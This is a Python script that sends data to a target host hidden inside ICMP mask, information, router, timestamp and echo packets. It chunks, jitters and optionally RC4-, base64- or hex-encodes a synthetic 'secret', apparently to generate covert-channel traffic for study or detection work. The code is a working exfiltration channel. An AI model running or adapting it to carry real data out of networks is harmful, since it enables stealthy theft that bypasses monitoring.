"""Data in ICMP queries that are not echo: ``icmpquery.py KIND TARGET SECONDS SEED``.

KIND: ``mask`` (17, the four octets of the mask), ``info`` (15, behind the header), ``router``
(10, the reserved word), ``stamp`` (13, the last of the three times), ``leak`` (echo that the far
kernel answers by itself, many requests, new content in each).  One way: the far side would read
the packets off the wire.
"""

from __future__ import annotations

import base64
import random
import struct
import sys
import time

from frames import rc4
from icmp_c2 import Endpoint
from text import make

KINDS = {"mask": 17, "info": 15, "router": 10, "stamp": 13, "leak": 8}


def chunks(data: bytes, size: int) -> list[bytes]:
    """Cut data into pieces."""
    return [data[at : at + size] for at in range(0, len(data), size)]


def main(kind: str, target: str, seconds: float, seed: int) -> None:
    """Send until the time is up."""
    rng = random.Random(f"{seed}{kind}")
    end = Endpoint(target, v6=":" in target)
    until = time.monotonic() + seconds
    gap, ident = rng.choice((0.1, 0.2, 0.35, 0.6)), rng.randrange(1, 65536)
    secret = make(rng.choice(("text", "log", "zip", "json")), 60_000, seed)
    dress = rng.choice(("none", "seal", "base64", "hex"))
    if dress == "seal":
        secret = rc4(seed.to_bytes(4, "big"), secret)
    elif dress == "base64":
        secret = base64.b64encode(secret)
    elif dress == "hex":
        secret = secret.hex().encode()
    size = {"mask": 4, "router": 4, "stamp": 4}.get(kind, rng.choice((16, 32, 56, 56, 120, 480)))
    still = rng.random() < 0.4
    for number, piece in enumerate(chunks(secret, size)):
        seq = 0 if still else number
        if kind == "router":
            end.send(KINDS[kind], *struct.unpack(">HH", piece.ljust(4, b"\0")), b"")
        elif kind == "stamp":
            noon = int(time.time() % 86400 * 1000)
            end.send(KINDS[kind], ident, seq, struct.pack(">II", noon, 0) + piece.ljust(4, b"\0"))
        else:
            end.send(KINDS[kind], ident, seq, piece)
        time.sleep(gap * rng.uniform(0.7, 1.3))
        if time.monotonic() > until:
            return


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4]))
